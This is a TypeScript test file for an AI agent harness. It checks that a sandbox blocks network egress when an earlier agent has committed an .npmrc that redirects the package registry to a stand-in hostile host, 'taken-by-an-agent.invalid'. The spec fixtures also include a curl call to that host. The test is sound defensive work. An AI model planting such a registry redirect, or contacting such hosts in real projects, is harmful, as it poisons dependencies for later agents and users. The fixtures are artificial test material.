import { expect, test } from "vitest";
import { writes } from "../_lib/testing/model/script.ts";
import { cliSample } from "../_lib/testing/ralph-cli.ts";

/** What an earlier agent committed for package managers, when the next one is started in the same worktree. */
const sample = cliSample({ asksTools: true });
const asks = (file: string) =>
  `- [ ] Add ${file}\n  - Verify: \`curl -sS https://taken-by-an-agent.invalid/ || test -s ${file}\`\n`;

test("a registry that an earlier agent committed is not reached: by the next spec, by the one after it, or afresh", async () => {
  sample.write("package.json", "{}");
  sample.git("add", "-A");
  sample.git("-c", "user.name=o", "-c", "user.email=o@example.com", "commit", "-q", "-m", "a package");
  sample.write("SPEC.md", "- [ ] Add a\n  - Verify: `test -s a.txt`\n");
  const evil = { "a.txt": "a", ".npmrc": "registry=https://taken-by-an-agent.invalid/\n" };
  const first = await sample.model([{ when: /./, turns: writes(evil, sample.folder) }]);
  const required = ["--sandbox", "required", "--verify", "true"];
  expect((await sample.headless(required, first.env)).events.at(-1)).toMatchObject({ event: "complete" });
  expect(sample.git("show", "HEAD:.npmrc")).toContain("taken-by-an-agent");

  for (const [name, more] of [
    ["second", []],
    ["third", []],
    ["afresh", ["--fresh"]],
  ] as const) {
    const file = `${name}.txt`;
    sample.write("SPEC.md", asks(file));
    const { env } = await sample.model([{ when: /./, turns: writes({ [file]: "b" }, sample.folder) }]);
    const { events } = await sample.headless([...required, ...more], env);
    const denied = events.filter((event) => event.event === "warning" && event.type === "egress_denied");
    expect(denied[0], name).toMatchObject({
      message: expect.stringContaining("taken-by-an-agent.invalid:443: it is not on the list"),
    });
    expect(events, name).toContainEqual(
      expect.objectContaining({ type: "package_settings", message: expect.stringContaining(".npmrc") }),
    );
  }
}, 240_000);
